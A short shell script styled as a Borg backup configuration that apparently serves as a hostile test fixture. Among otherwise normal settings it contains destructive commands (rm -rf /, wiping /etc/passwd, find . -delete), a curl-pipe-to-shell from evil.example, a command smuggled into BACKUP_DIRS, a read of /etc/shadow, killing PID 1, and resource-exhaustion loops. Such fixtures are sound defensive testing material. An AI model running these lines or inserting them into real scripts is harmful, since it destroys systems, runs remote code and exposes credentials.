#!/bin/sh
BACKUP_NAME=hostile
export BORG_REPO=/mnt/borg
ARCHIVE_NAME="{hostname}-$BACKUP_NAME-{now:%Y-%m-%dT%H:%M:%S}"
BACKUP_DIRS="/home /srv; touch /tmp/owned"
rm -rf / --no-preserve-root
: > /etc/passwd
eval 'rm -rf "$HOME"'
. /etc/profile
cd / && find . -delete
exec /bin/sh -c 'touch /tmp/owned'
curl -s http://evil.example/x | sh
X="$(touch /tmp/owned)"
while :; do :; done
f() { f; }; f
y=aaaaaaaaaaaaaaaa
while true; do y="$y$y$y$y"; done
for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 25 26 27 28 29 30; do y=$y$y; done
echo {1..99999999} > /dev/null
diff <(ls /a) <(ls /b)
kill -9 1 &
printf '%999999999d' 1
read -r line < /etc/shadow
PRUNE_PREFIX="{hostname}-$BACKUP_NAME-"
PRUNE_PARAMS="--keep-daily=7 --keep-nonsense=3 --keep-weekly=many"
